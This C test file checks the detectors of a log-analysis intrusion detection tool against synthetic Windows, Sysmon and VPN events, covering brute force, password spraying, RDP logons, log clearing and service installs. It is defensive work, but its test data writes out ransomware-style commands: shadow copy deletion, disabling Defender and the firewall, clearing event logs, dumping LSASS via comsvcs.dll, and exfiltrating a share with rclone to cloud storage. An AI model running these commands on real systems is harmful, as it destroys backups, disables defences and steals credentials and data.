/* The detection engine and built-in detectors on events built here: window edges
 * (7 failures in 4 minutes: nothing; 8: one finding; 8 over 5 minutes: nothing),
 * keys, merging, overrides, explanations in both languages, and the signals of
 * every detector; `kensa simulate` output read back through ks_source. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "detect/detect.h" /* ks_geoip */
#include "harness.h"
#include "kensa/detect.h"
#include "kensa/kensa.h"
#include "kensa/site.h"

#define SEC INT64_C(1000000000)
#define MIN (60 * SEC)
/* 2024-10-15 00:00:00 UTC */
#define T0 (INT64_C(1728950400) * SEC)

typedef struct got {
    ks_finding f[64];
    int n;
} got;

static void on_finding(void *ctx, const ks_finding *f)
{
    got *g = ctx;
    if (g->n < 64) g->f[g->n] = *f;
    g->n++;
}

static ks_str S(const char *s)
{
    return (ks_str){s, s ? strlen(s) : 0};
}

/* An event with what detectors read; fields are name/value pairs (UTF-8). */
typedef struct evb {
    ks_event ev;
    ks_field fields[4];
} evb;

static ks_event *mk(evb *b, const char *provider, uint32_t id, int64_t t, uint64_t rec)
{
    memset(b, 0, sizeof *b);
    b->ev.provider = S(provider);
    b->ev.event_id = id;
    b->ev.time_ns = t;
    b->ev.record_id = rec;
    b->ev.host = S("RDS01.hosp.local");
    b->ev.channel = S("Security");
    b->ev.sem.logon_type = -1;
    b->ev.fields = b->fields;
    return &b->ev;
}

static void field(evb *b, const char *name, const char *value)
{
    b->fields[b->ev.nfields++] =
        (ks_field){S(name), {(const uint8_t *)value, (uint32_t)strlen(value), KS_VT_UTF8}};
}

#define SECURITY "Microsoft-Windows-Security-Auditing"

static ks_event *fail(evb *b, int64_t t, uint64_t rec, const char *user, const char *ip)
{
    ks_event *e = mk(b, SECURITY, 4625, t, rec);
    e->sem.user = S(user);
    e->sem.src_ip = S(ip);
    e->sem.logon_type = 3;
    e->sem.outcome = KS_OUTCOME_FAILURE;
    return e;
}

static ks_event *logon(evb *b, int64_t t, uint64_t rec, const char *user, const char *ip, int type)
{
    ks_event *e = mk(b, SECURITY, 4624, t, rec);
    e->sem.user = S(user);
    e->sem.src_ip = S(ip);
    e->sem.logon_type = type;
    e->sem.outcome = KS_OUTCOME_SUCCESS;
    return e;
}

static ks_detect *open_engine(got *g, const ks_detect_override *ov, size_t nov, const char *tz)
{
    memset(g, 0, sizeof *g);
    ks_detect_opts o = {ov, nov, tz ? tz : "UTC", on_finding, g, NULL, NULL, NULL};
    ks_detect *d = NULL;
    ks_diag diag = {0};
    CHECK_INT(ks_detect_open(&d, &o, &diag), KS_OK);
    return d;
}

static int count_of(const got *g, const char *detector)
{
    int n = 0;
    for (int i = 0; i < g->n && i < 64; i++) n += !strcmp(g->f[i].detector->id, detector);
    return n;
}

static const ks_finding *first_of(const got *g, const char *detector)
{
    for (int i = 0; i < g->n && i < 64; i++)
        if (!strcmp(g->f[i].detector->id, detector)) return &g->f[i];
    return NULL;
}

/* n failures for one account from one source, `spacing` apart. */
static void burst(ks_detect *d, int n, int64_t start, int64_t spacing, const char *user,
                  const char *ip)
{
    evb b;
    for (int i = 0; i < n; i++)
        ks_detect_feed(d, fail(&b, start + i * spacing, 100 + (uint64_t)i, user, ip));
}

static void test_window_edges(void)
{
    got g;
    /* 7 failures in 4 minutes: nothing */
    ks_detect *d = open_engine(&g, NULL, 0, NULL);
    ks_detect_begin_file(d, "Security.evtx");
    burst(d, 7, T0, 30 * SEC, "administrator", "203.0.113.5");
    ks_detect_end_file(d);
    CHECK_INT(count_of(&g, "brute_force"), 0);
    ks_detect_close(&d);
    CHECK(d == NULL);

    /* 8 in 4 minutes (exactly: 7 gaps of 34 s = 238 s): one finding, by source (the
     * account's burst came from that one source and is left out) */
    d = open_engine(&g, NULL, 0, NULL);
    ks_detect_begin_file(d, "Security.evtx");
    burst(d, 8, T0, 34 * SEC, "administrator", "203.0.113.5");
    ks_detect_end_file(d);
    CHECK_INT(count_of(&g, "brute_force"), 1);
    const ks_finding *f = first_of(&g, "brute_force");
    if (f) {
        CHECK_STR(f->src_ip, "203.0.113.5");
        CHECK_STR(f->user, "administrator");
        CHECK_STR(f->host, "RDS01.hosp.local");
        CHECK_INT(f->count, 8);
        CHECK_INT(f->nevidence, 8);
        CHECK_INT(f->first_ns, T0);
        CHECK_INT(f->last_ns, T0 + 7 * 34 * SEC);
        CHECK_STR(f->evidence[0].file, "Security.evtx");
        CHECK_INT(f->evidence[0].record_id, 100);
        CHECK_INT(f->evidence[7].record_id, 107);
        CHECK_STR(f->categories[0], "brute_force");
        CHECK(f->categories[1] == NULL);
        CHECK_INT(f->severity, KS_LEVEL_HIGH);
        CHECK_STR(f->explanation, "8 failed logons from 203.0.113.5 on RDS01.hosp.local within 4 "
                                  "min (1 accounts: administrator)");
    }
    ks_detect_close(&d);

    /* 8 spread over 5 minutes (7 gaps of 43 s = 301 s): nothing */
    d = open_engine(&g, NULL, 0, NULL);
    ks_detect_begin_file(d, "Security.evtx");
    burst(d, 8, T0, 43 * SEC, "administrator", "203.0.113.5");
    ks_detect_end_file(d);
    CHECK_INT(count_of(&g, "brute_force"), 0);
    ks_detect_close(&d);

    /* the same 8 arriving out of order (two files merged, a late record): one finding */
    d = open_engine(&g, NULL, 0, NULL);
    ks_detect_begin_file(d, "Security.evtx");
    static const int order[8] = {0, 2, 1, 3, 7, 4, 6, 5};
    evb b;
    for (int i = 0; i < 8; i++)
        ks_detect_feed(
            d, fail(&b, T0 + order[i] * 30 * SEC, 100 + (uint64_t)order[i], "x", "203.0.113.5"));
    ks_detect_end_file(d);
    CHECK_INT(count_of(&g, "brute_force"), 1);
    f = first_of(&g, "brute_force");
    if (f) CHECK_INT(f->last_ns - f->first_ns, 7 * 30 * SEC);
    ks_detect_close(&d);

    /* a burst goes on while failures keep coming (one finding, every failure
     * counted); a gap longer than the window starts a new one */
    d = open_engine(&g, NULL, 0, NULL);
    ks_detect_begin_file(d, "Security.evtx");
    burst(d, 40, T0, 20 * SEC, "administrator", "203.0.113.5");
    burst(d, 8, T0 + 60 * MIN, 1 * SEC, "administrator", "203.0.113.5");
    ks_detect_end_file(d);
    CHECK_INT(count_of(&g, "brute_force"), 2);
    if (g.n >= 2) {
        CHECK_INT(g.f[0].count, 40);
        CHECK_INT(g.f[0].nevidence, KS_FINDING_EVIDENCE);
        CHECK_INT(g.f[1].count, 8);
    }
    ks_detect_close(&d);

    /* the threshold comes from the options */
    ks_detect_override ov[] = {{"brute_force", "count", 5}, {"brute_force", "window_s", 60}};
    d = open_engine(&g, ov, 2, NULL);
    CHECK_INT(ks_detect_param(d, "brute_force", "count"), 5);
    CHECK_INT(ks_detect_param(d, "brute_force", "window_s"), 60);
    CHECK_INT(ks_detect_param(d, "password_spray", "accounts"), 5);
    ks_detect_begin_file(d, "a");
    burst(d, 5, T0, 14 * SEC, "administrator", "203.0.113.5");    /* 56 s */
    burst(d, 5, T0 + 10 * MIN, 16 * SEC, "guest", "203.0.113.6"); /* 64 s */
    ks_detect_end_file(d);
    CHECK_INT(count_of(&g, "brute_force"), 1);
    ks_detect_close(&d);
}

static void test_keys(void)
{
    got g;
    ks_detect *d = open_engine(&g, NULL, 0, NULL);
    ks_detect_begin_file(d, "Security.evtx");
    evb b;
    /* one account from many sources: the account's burst is the finding */
    for (int i = 0; i < 9; i++) {
        char ip[32];
        snprintf(ip, sizeof ip, "198.51.100.%d", i + 1);
        ks_detect_feed(d, fail(&b, T0 + i * 10 * SEC, 10 + (uint64_t)i, "vendor.emr", ip));
    }
    /* local failures without an address: by account */
    for (int i = 0; i < 8; i++)
        ks_detect_feed(d, fail(&b, T0 + i * SEC, 50 + (uint64_t)i, "Admin", ""));
    /* another provider reusing 4625 is not a failed logon */
    for (int i = 0; i < 10; i++) {
        ks_event *e = fail(&b, T0 + i * SEC, 70 + (uint64_t)i, "bob", "203.0.113.9");
        e->provider = S("SomeVendorAgent");
        ks_detect_feed(d, e);
    }
    /* the same account on another host is another key */
    for (int i = 0; i < 4; i++) {
        ks_event *e = fail(&b, T0 + i * SEC, 90 + (uint64_t)i, "carol", "");
        ks_detect_feed(d, e);
        e = fail(&b, T0 + i * SEC, 95 + (uint64_t)i, "carol", "");
        e->host = S("FS01");
        ks_detect_feed(d, e);
    }
    ks_detect_end_file(d);
    CHECK_INT(count_of(&g, "brute_force"), 2);
    int seen = 0;
    for (int i = 0; i < g.n; i++) {
        const ks_finding *f = &g.f[i];
        if (strcmp(f->detector->id, "brute_force")) continue;
        if (!strcmp(f->user, "vendor.emr")) {
            seen |= 1;
            CHECK_STR(f->src_ip, "");
            CHECK_INT(f->count, 9);
            CHECK_INT(f->variant, 0);
        } else if (!strcmp(f->user, "Admin")) {
            seen |= 2;
            CHECK_INT(f->count, 8);
        }
    }
    CHECK_INT(seen, 3);
    ks_detect_close(&d);
}

static void test_spray_and_door(void)
{
    got g;
    ks_detect *d = open_engine(&g, NULL, 0, NULL);
    ks_detect_begin_file(d, "Security.evtx");
    evb b;
    /* 4 accounts: not yet a spray */
    static const char *const users[] = {"tanaka.h", "suzuki.y", "sato.k",
                                        "ito.r",    "kato.n",   "inoue.a"};
    for (int i = 0; i < 4; i++)
        ks_detect_feed(d, fail(&b, T0 + i * MIN, 1 + (uint64_t)i, users[i], "203.0.113.7"));
    ks_detect_end_file(d);
    CHECK_INT(count_of(&g, "password_spray"), 0);
    ks_detect_begin_file(d, "Security2.evtx");
    for (int i = 0; i < 6; i++)
        ks_detect_feed(d, fail(&b, T0 + i * MIN, 1 + (uint64_t)i, users[i], "203.0.113.7"));
    ks_detect_end_file(d);
    CHECK_INT(count_of(&g, "password_spray"), 1);
    const ks_finding *f = first_of(&g, "password_spray");
    if (f) {
        CHECK_INT(f->accounts, 6);
        CHECK_INT(f->count, 6);
        CHECK_STR(f->src_ip, "203.0.113.7");
        CHECK_STR(f->evidence[0].file, "Security2.evtx");
    }
    CHECK_INT(count_of(&g, "brute_force"), 0); /* 6 failures, fewer than 8 */
    ks_detect_close(&d);

    /* the door opens: 8 failures, then a success from that source 10 minutes later */
    d = open_engine(&g, NULL, 0, NULL);
    ks_detect_begin_file(d, "Security.evtx");
    burst(d, 8, T0, 5 * SEC, "administrator", "203.0.113.5");
    ks_detect_feed(d, logon(&b, T0 + 10 * MIN, 500, "vendor.emr", "203.0.113.5", 10));
    /* a success from elsewhere, for an account never attacked: nothing */
    ks_detect_feed(d, logon(&b, T0 + 11 * MIN, 501, "tanaka.h", "10.10.2.11", 3));
    ks_detect_end_file(d);
    CHECK_INT(count_of(&g, "logon_after_failures"), 1);
    f = first_of(&g, "logon_after_failures");
    if (f) {
        CHECK_STR(f->user, "vendor.emr");
        CHECK_STR(f->src_ip, "203.0.113.5");
        CHECK_INT(f->count, 9);
        CHECK_INT(f->evidence[f->nevidence - 1].record_id, 500);
        CHECK_INT(f->first_ns, T0);
        CHECK_INT(f->last_ns, T0 + 10 * MIN);
        CHECK_INT(f->severity, KS_LEVEL_CRITICAL);
        CHECK_STR(f->categories[0], "logon_after_failures");
    }
    ks_detect_close(&d);

    /* 7 failures then a success: no door; 8 then a success 2 hours later: none */
    d = open_engine(&g, NULL, 0, NULL);
    ks_detect_begin_file(d, "Security.evtx");
    burst(d, 7, T0, 5 * SEC, "administrator", "203.0.113.5");
    ks_detect_feed(d, logon(&b, T0 + 2 * MIN, 500, "administrator", "203.0.113.5", 3));
    burst(d, 8, T0 + 3 * 60 * MIN, 5 * SEC, "administrator", "203.0.113.5");
    ks_detect_feed(d, logon(&b, T0 + 5 * 60 * MIN, 501, "administrator", "203.0.113.5", 3));
    ks_detect_end_file(d);
    CHECK_INT(count_of(&g, "logon_after_failures"), 0);
    ks_detect_close(&d);

    /* VPN: failures and a success read from syslog lines */
    d = open_engine(&g, NULL, 0, NULL);
    ks_detect_begin_file(d, "vpn.log");
    for (int i = 0; i < 10; i++) {
        ks_event *e = mk(&b, "fortigate", 0, T0 + i * 10 * SEC, 1 + (uint64_t)i);
        e->channel = S("syslog");
        e->host = S("FGT-HOSP");
        e->sem.action = S(KS_ACTION_VPN_LOGIN);
        e->sem.outcome = KS_OUTCOME_FAILURE;
        e->sem.user = S("vpnuser");
        e->sem.src_ip = S("192.0.2.44");
        ks_detect_feed(d, e);
    }
    ks_event *e = mk(&b, "fortigate", 0, T0 + 3 * MIN, 11);
    e->host = S("FGT-HOSP");
    e->sem.action = S(KS_ACTION_VPN_LOGIN);
    e->sem.outcome = KS_OUTCOME_SUCCESS;
    e->sem.user = S("vpnuser");
    e->sem.src_ip = S("192.0.2.44");
    ks_detect_feed(d, e);
    ks_detect_end_file(d);
    CHECK_INT(count_of(&g, "brute_force"), 1);
    CHECK_INT(count_of(&g, "logon_after_failures"), 1);
    f = first_of(&g, "brute_force");
    if (f) {
        CHECK_INT(f->variant, 3);
        CHECK_STR(f->host, "FGT-HOSP");
        CHECK_INT(f->count, 10);
    }
    f = first_of(&g, "logon_after_failures");
    if (f) CHECK_INT(f->variant, 1);
    ks_detect_close(&d);
}

static void test_rdp(void)
{
    got g;
    ks_detect *d = open_engine(&g, NULL, 0, "Asia/Tokyo");
    ks_detect_begin_file(d, "Security.evtx");
    evb b;
    /* 10:00 JST from inside: nothing */
    ks_detect_feed(d, logon(&b, T0 + 1 * 60 * MIN, 1, "admin.kimura", "10.10.3.5", 10));
    /* 10:00 JST type 3 from outside: not RDP */
    ks_detect_feed(d, logon(&b, T0 + 1 * 60 * MIN, 2, "admin.kimura", "198.51.100.1", 3));
    /* 23:00 JST (14:00 UTC) from inside: after hours */
    ks_detect_feed(d, logon(&b, T0 + 14 * 60 * MIN, 3, "admin.kimura", "10.10.3.5", 10));
    /* 11:00 JST from outside */
    ks_detect_feed(d, logon(&b, T0 + 2 * 60 * MIN, 4, "vendor.emr", "198.51.100.23", 10));
    /* ... and again 5 minutes later: the same finding */
    ks_detect_feed(d, logon(&b, T0 + 2 * 60 * MIN + 5 * MIN, 5, "vendor.emr", "198.51.100.23", 10));
    /* LSM 21 from loopback: a tunnel */
    ks_event *e =
        mk(&b, "Microsoft-Windows-TerminalServices-LocalSessionManager", 21, T0 + 3 * 60 * MIN, 6);
    e->sem.user = S("svc-backup");
    e->sem.src_ip = S("127.0.0.1");
    ks_detect_feed(d, e);
    /* LSM 21 of a console logon ("LOCAL" is no address): nothing */
    e = mk(&b, "Microsoft-Windows-TerminalServices-LocalSessionManager", 21, T0 + 15 * 60 * MIN, 7);
    e->sem.user = S("svc-backup");
    ks_detect_feed(d, e);
    ks_detect_end_file(d);
    CHECK_INT(count_of(&g, "rdp_logon"), 3);
    for (int i = 0; i < g.n && i < 64; i++) {
        const ks_finding *f = &g.f[i];
        if (strcmp(f->detector->id, "rdp_logon")) continue;
        if (f->variant == 0) {
            CHECK_STR(f->src_ip, "198.51.100.23");
            CHECK_INT(f->count, 2);
            CHECK_INT(f->severity, KS_LEVEL_HIGH);
        } else if (f->variant == 1) {
            CHECK_STR(f->categories[0], "rdp_tunnel");
            CHECK_STR(f->user, "svc-backup");
        } else {
            CHECK_INT(f->variant, 2);
            CHECK_INT(f->evidence[0].record_id, 3);
            CHECK_STR(f->categories[1], "off_duty_logon");
        }
    }
    ks_detect_close(&d);
    /* business hours from the options: 22-24 JST are business hours too */
    ks_detect_override ov[] = {{"rdp_logon", "business_end", 24}};
    d = open_engine(&g, ov, 1, "+09:00");
    ks_detect_begin_file(d, "Security.evtx");
    ks_detect_feed(d, logon(&b, T0 + 14 * 60 * MIN, 3, "admin.kimura", "10.10.3.5", 10));
    ks_detect_end_file(d);
    CHECK_INT(count_of(&g, "rdp_logon"), 0);
    ks_detect_close(&d);
}

static void test_logs(void)
{
    got g;
    ks_detect *d = open_engine(&g, NULL, 0, NULL);
    ks_detect_begin_file(d, "System.evtx");
    evb b;
    ks_event *e = mk(&b, "Microsoft-Windows-Eventlog", 104, T0, 10);
    e->channel = S("System");
    e->sem.user = S("vendor.emr");
    field(&b, "Channel", "System");
    ks_detect_feed(d, e);
    e = mk(&b, "Microsoft-Windows-Eventlog", 104, T0 + MIN, 11);
    e->channel = S("System");
    e->sem.user = S("vendor.emr");
    field(&b, "Channel", "Application");
    ks_detect_feed(d, e);
    ks_detect_end_file(d);
    CHECK_INT(count_of(&g, "log_cleared"), 1);
    const ks_finding *f = first_of(&g, "log_cleared");
    if (f) {
        CHECK_STR(f->detail, "System, Application");
        CHECK_INT(f->count, 2);
        CHECK_STR(f->explanation,
                  "vendor.emr cleared the System, Application log on RDS01.hosp.local");
    }
    ks_detect_close(&d);

    /* record ids: 30 consecutive, 5 missing, 30 consecutive -> one gap */
    d = open_engine(&g, NULL, 0, NULL);
    ks_detect_begin_file(d, "Security.evtx");
    for (uint64_t id = 1; id <= 65; id++) {
        if (id > 30 && id <= 35) continue;
        ks_detect_feed(d, mk(&b, SECURITY, 4624, T0 + (int64_t)id * SEC, id));
    }
    /* an exported filter: gaps everywhere, nothing */
    for (uint64_t id = 100; id <= 400; id += 3) {
        e = mk(&b, SECURITY, 4624, T0 + (int64_t)id * SEC, id);
        e->channel = S("Application");
        ks_detect_feed(d, e);
    }
    ks_detect_end_file(d);
    CHECK_INT(count_of(&g, "eventlog_tampering"), 1);
    f = first_of(&g, "eventlog_tampering");
    if (f) {
        CHECK_STR(f->detail, "Security 31-35, 5");
        CHECK_INT(f->evidence[0].record_id, 30);
        CHECK_INT(f->evidence[1].record_id, 36);
    }
    ks_detect_close(&d);

    /* 1100 then a boot: a shutdown; 1100 then the log goes on: stopped */
    d = open_engine(&g, NULL, 0, NULL);
    ks_detect_begin_file(d, "Security.evtx");
    ks_detect_feed(d, mk(&b, "Microsoft-Windows-Eventlog", 1100, T0, 1));
    ks_detect_feed(d, mk(&b, SECURITY, 4647, T0 - SEC, 2)); /* written just before */
    ks_detect_feed(d, mk(&b, SECURITY, 4608, T0 + 9 * 60 * MIN, 3));
    ks_detect_feed(d, mk(&b, "Microsoft-Windows-Eventlog", 1100, T0 + 10 * 60 * MIN, 4));
    ks_detect_feed(d, mk(&b, SECURITY, 4624, T0 + 10 * 60 * MIN + 20 * MIN, 5));
    e = mk(&b, "Service Control Manager", 7036, T0 + 11 * 60 * MIN, 6);
    e->sem.service = S("Windows Event Log");
    field(&b, "param1", "Windows Event Log");
    field(&b, "param2", "stopped");
    ks_detect_feed(d, e);
    e = mk(&b, "Service Control Manager", 7036, T0 + 11 * 60 * MIN + 5 * MIN, 8);
    e->sem.service = S("Windows Event Log");
    field(&b, "param2", "running");
    ks_detect_feed(d, e);
    /* a shutdown: stopped, a boot, running */
    e = mk(&b, "Service Control Manager", 7036, T0 + 11 * 60 * MIN + 10 * MIN, 9);
    e->sem.service = S("Windows Event Log");
    field(&b, "param2", "stopped");
    ks_detect_feed(d, e);
    ks_detect_feed(d, mk(&b, "EventLog", 6009, T0 + 11 * 60 * MIN + 15 * MIN, 10));
    e = mk(&b, "Service Control Manager", 7036, T0 + 11 * 60 * MIN + 15 * MIN, 11);
    e->sem.service = S("Windows Event Log");
    field(&b, "param2", "running");
    ks_detect_feed(d, e);
    ks_detect_feed(d,
                   mk(&b, "Microsoft-Windows-Eventlog", 1100, T0 + 12 * 60 * MIN, 7)); /* the end */
    ks_detect_end_file(d);
    CHECK_INT(count_of(&g, "eventlog_tampering"), 2);
    if (g.n == 2) {
        CHECK_INT(g.f[0].variant, 0);
        CHECK_INT(g.f[0].evidence[0].record_id, 4);
        CHECK_INT(g.f[1].variant, 1);
        CHECK_INT(g.f[1].evidence[0].record_id, 6);
    }
    ks_detect_close(&d);
}

static void test_processes(void)
{
    got g;
    ks_detect *d = open_engine(&g, NULL, 0, NULL);
    ks_detect_begin_file(d, "Security.evtx");
    evb b;
    static const struct {
        const char *cmd;
        int hit;
    } cmds[] = {
        {"vssadmin.exe Delete Shadows /All /Quiet", 1},
        {"cmd.exe /c v^ss^admin \"delete\" ^shadows /all", 1},
        {"wmic  shadowcopy delete /nointeractive", 1},
        {"bcdedit /set {default} recoveryenabled No", 2},
        {"wbadmin DELETE CATALOG -quiet", 2},
        {"vssadmin list shadows", 0},
        {"bcdedit /enum", 0},
        {"notepad.exe vssadmin-notes.txt", 0},
    };
    for (size_t i = 0; i < sizeof cmds / sizeof cmds[0]; i++) {
        ks_detect_begin_file(d, "Security.evtx");
        ks_event *e = mk(&b, SECURITY, 4688, T0, 1 + i);
        e->sem.command_line = S(cmds[i].cmd);
        e->sem.user = S("vendor.emr");
        int before = g.n;
        ks_detect_feed(d, e);
        ks_detect_end_file(d);
        int n = count_of(&g, "shadow_copy_deletion");
        (void)n;
        if (!cmds[i].hit) {
            CHECK_INT(g.n - before, 0);
            continue;
        }
        CHECK_INT(g.n - before, 1);
        if (g.n > before) {
            const ks_finding *f = &g.f[g.n - 1];
            CHECK_STR(f->detector->id, "shadow_copy_deletion");
            CHECK_STR(f->categories[0],
                      cmds[i].hit == 1 ? "shadow_copy_deletion" : "inhibit_recovery");
            CHECK_INT(f->severity, cmds[i].hit == 1 ? KS_LEVEL_CRITICAL : KS_LEVEL_HIGH);
            CHECK_INT(f->evidence[0].record_id, 1 + i);
        }
    }
    ks_detect_close(&d);

    /* services: one merged finding for two bad installs; ordinary ones nothing */
    d = open_engine(&g, NULL, 0, NULL);
    ks_detect_begin_file(d, "System.evtx");
    static const char *const svc[][2] = {
        {"WinUpdSvc", "C:\\Windows\\Temp\\winupd.exe -k netsvcs"},
        {"SysHealthAgent", "C:\\ProgramData\\Health\\agent.exe"},
        {"Bluetooth Port Driver", "\\SystemRoot\\system32\\DRIVERS\\BTHport.sys"},
        {"MpKsl1bb57ead", "C:\\ProgramData\\Microsoft\\Windows Defender\\Definition "
                          "Updates\\{9}\\MpKsl1bb57ead.sys"},
        {"Google Update Service (gupdate)",
         "\"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe\" /svc"},
    };
    for (size_t i = 0; i < 5; i++) {
        ks_event *e = mk(&b, "Service Control Manager", 7045, T0 + (int64_t)i * MIN, 1 + i);
        e->host = S(i < 2 ? "FS01" : "PC01");
        e->sem.service = S(svc[i][0]);
        e->sem.command_line = S(svc[i][1]);
        ks_detect_feed(d, e);
    }
    /* PsExec's service: a remote access tool */
    ks_event *e = mk(&b, "Service Control Manager", 7045, T0, 9);
    e->sem.service = S("PSEXESVC");
    e->sem.command_line = S("%SystemRoot%\\PSEXESVC.exe");
    ks_detect_feed(d, e);
    /* AnyDesk renamed: Sysmon's OriginalFileName says what it is */
    e = mk(&b, "Microsoft-Windows-Sysmon", 1, T0, 10);
    e->sem.process = S("C:\\Users\\Public\\svchost.exe");
    field(&b, "OriginalFileName", "AnyDesk.exe");
    ks_detect_feed(d, e);
    /* plink by name; "uplink.exe" is not plink */
    e = mk(&b, SECURITY, 4688, T0, 11);
    e->sem.process = S("C:\\Windows\\Temp\\plink.exe");
    ks_detect_feed(d, e);
    e = mk(&b, SECURITY, 4688, T0, 12);
    e->sem.process = S("C:\\Program Files\\Vendor\\uplink.exe");
    ks_detect_feed(d, e);
    ks_detect_end_file(d);
    CHECK_INT(count_of(&g, "service_install"), 1);
    const ks_finding *f = first_of(&g, "service_install");
    if (f) {
        CHECK_INT(f->count, 2);
        CHECK_STR(f->host, "FS01");
        CHECK(strstr(f->detail, "WinUpdSvc") && strstr(f->detail, "SysHealthAgent"));
        CHECK_INT(f->severity, KS_LEVEL_HIGH);
    }
    CHECK_INT(count_of(&g, "remote_access_tool"), 3);
    int tools = 0;
    for (int i = 0; i < g.n && i < 64; i++) {
        if (strcmp(g.f[i].detector->id, "remote_access_tool")) continue;
        if (!strncmp(g.f[i].detail, "PsExec", 6)) tools |= 1;
        if (!strncmp(g.f[i].detail, "AnyDesk", 7)) tools |= 2;
        if (!strncmp(g.f[i].detail, "plink", 5)) tools |= 4;
    }
    CHECK_INT(tools, 7);
    ks_detect_close(&d);

    /* tasks and accounts */
    d = open_engine(&g, NULL, 0, NULL);
    ks_detect_begin_file(d, "Security.evtx");
    e = mk(&b, SECURITY, 4698, T0, 1);
    e->sem.user = S("vendor.emr");
    field(&b, "TaskName", "\\Updater");
    field(&b, "TaskContent",
          "<Task><Actions><Exec><Command>powershell.exe</Command><Arguments>-enc "
          "AAAA</Arguments></Exec></Actions></Task>");
    ks_detect_feed(d, e);
    e = mk(&b, SECURITY, 4732, T0 + MIN, 2);
    e->sem.user = S("-");
    e->sem.user.len = 0;
    field(&b, "MemberSid", "S-1-5-21-1-2-3-1120");
    field(&b, "TargetUserName", "Administrators");
    ks_detect_feed(d, e);
    ks_detect_end_file(d);
    f = first_of(&g, "scheduled_task");
    CHECK(f != NULL);
    if (f) {
        CHECK_INT(f->severity, KS_LEVEL_HIGH);
        CHECK_STR(f->detail, "\\Updater, powershell.exe -enc AAAA");
    }
    f = first_of(&g, "account_manipulation");
    CHECK(f != NULL);
    if (f) {
        CHECK_INT(f->severity, KS_LEVEL_HIGH);
        CHECK_STR(f->user, "S-1-5-21-1-2-3-1120");
        CHECK_STR(f->detail, "Administrators");
    }
    ks_detect_close(&d);

    /* the member added by SID first, then the 4720 naming it; net user's password */
    d = open_engine(&g, NULL, 0, NULL);
    ks_detect_begin_file(d, "Security.evtx");
    e = mk(&b, SECURITY, 4732, T0, 1);
    field(&b, "MemberSid", "S-1-5-21-9-9-9-1005");
    field(&b, "TargetUserName", "Users");
    ks_detect_feed(d, e);
    e = mk(&b, SECURITY, 4720, T0 + SEC, 2);
    e->sem.user = S("helpdesk2");
    field(&b, "TargetSid", "S-1-5-21-9-9-9-1005");
    ks_detect_feed(d, e);
    e = mk(&b, SECURITY, 4688, T0 + 2 * SEC, 3);
    e->sem.process = S("C:\\Windows\\System32\\net.exe");
    e->sem.command_line = S("net user helpdesk2 Winter2024! /add /domain");
    ks_detect_feed(d, e);
    ks_detect_end_file(d);
    f = first_of(&g, "account_manipulation");
    CHECK(f != NULL);
    if (f) {
        CHECK_STR(f->user, "helpdesk2");
        CHECK_INT(f->accounts, 1);
        CHECK_STR(f->detail, "Users, net user helpdesk2 **** /add /domain");
        CHECK(strstr(f->explanation, "Winter") == NULL);
        CHECK_INT(f->count, 3);
    }
    ks_detect_close(&d);
}

static void test_credentials(void)
{
    got g;
    ks_detect *d = open_engine(&g, NULL, 0, NULL);
    ks_detect_begin_file(d, "Sysmon.evtx");
    evb b;
    /* svchost querying lsass (0x1000) and Defender reading it: Windows' own */
    static const char *const ok[][2] = {
        {"C:\\Windows\\system32\\svchost.exe", "0x1000"},
        {"C:\\Windows\\system32\\svchost.exe", "0x1410"},
        {"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18\\MsMpEng.exe", "0x1fffff"},
        {"C:\\Temp\\x.exe", "0x1000"}, /* no memory read */
    };
    for (int i = 0; i < 4; i++) {
        ks_event *e = mk(&b, "Microsoft-Windows-Sysmon", 10, T0 + i * SEC, 1 + (uint64_t)i);
        e->sem.process = S(ok[i][0]);
        field(&b, "TargetImage", "C:\\Windows\\system32\\lsass.exe");
        field(&b, "GrantedAccess", ok[i][1]);
        ks_detect_feed(d, e);
    }
    ks_detect_end_file(d);
    CHECK_INT(count_of(&g, "credential_dumping"), 0);
    ks_detect_begin_file(d, "Sysmon.evtx");
    ks_event *e = mk(&b, "Microsoft-Windows-Sysmon", 10, T0, 9);
    e->sem.process = S("C:\\Users\\Public\\svchost.exe"); /* the name, not the place */
    field(&b, "TargetImage", "C:\\Windows\\system32\\lsass.exe");
    field(&b, "GrantedAccess", "0x1010");
    ks_detect_feed(d, e);
    e = mk(&b, SECURITY, 4688, T0 + MIN, 10);
    e->sem.command_line = S(
        "rundll32.exe C:\\windows\\System32\\comsvcs.dll, #24 ^MiniDump 624 C:\\temp\\l.dmp full");
    ks_detect_feed(d, e);
    ks_detect_end_file(d);
    CHECK_INT(count_of(&g, "credential_dumping"), 1);
    const ks_finding *f = first_of(&g, "credential_dumping");
    if (f) {
        CHECK_INT(f->count, 2);
        CHECK_INT(f->severity, KS_LEVEL_CRITICAL);
        CHECK(!strncmp(f->detail, "C:\\Users\\Public\\svchost.exe, rundll32.exe", 40));
    }
    ks_detect_close(&d);
}

/* Commands, one per file: which detector each raises (NULL: none). */
static void test_commands(void)
{
    static const struct {
        const char *image, *cmd, *detector;
    } cases[] = {
        {"powershell.exe", "Set-MpPreference -DisableRealtimeMonitoring $true",
         "defense_impairment"},
        {"sc.exe", "sc config WinDefend start= disabled", "defense_impairment"},
        {"net.exe", "net stop \"Veeam Backup Service\" /y", "defense_impairment"},
        {"auditpol.exe", "auditpol /clear /y", "defense_impairment"},
        {"netsh.exe", "netsh advfirewall set allprofiles state off", "defense_impairment"},
        {"sc.exe", "sc query WinDefend", NULL},
        {"net.exe", "net start MSSQLSERVER", NULL},
        {"wevtutil.exe", "wevtutil.exe cl Security", "anti_forensics"},
        {"wevtutil.exe", "wevtutil qe Security /c:5", NULL},
        {"cipher.exe", "cipher /w:C:\\", "anti_forensics"},
        {"fsutil.exe", "fsutil usn deletejournal /d C:", "anti_forensics"},
        {"C:\\Users\\Public\\AdFind.exe", "adfind -f objectcategory=computer", "attacker_tool"},
        {"C:\\ProgramData\\rclone.exe", "rclone copy \\\\FS01\\emr mega:x", "attacker_tool"},
        {"cmd.exe", "cmd.exe /Q /c powershell.exe -exec bypass -noni -nop -w 1 -C \"x\"",
         "attacker_tool"},
        {"C:\\Program Files\\Nmapper\\scan.exe", "scan.exe", NULL},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        got g;
        ks_detect *d = open_engine(&g, NULL, 0, NULL);
        ks_detect_begin_file(d, "Security.evtx");
        evb b;
        ks_event *e = mk(&b, SECURITY, 4688, T0, 1 + i);
        e->sem.process = S(cases[i].image);
        e->sem.command_line = S(cases[i].cmd);
        ks_detect_feed(d, e);
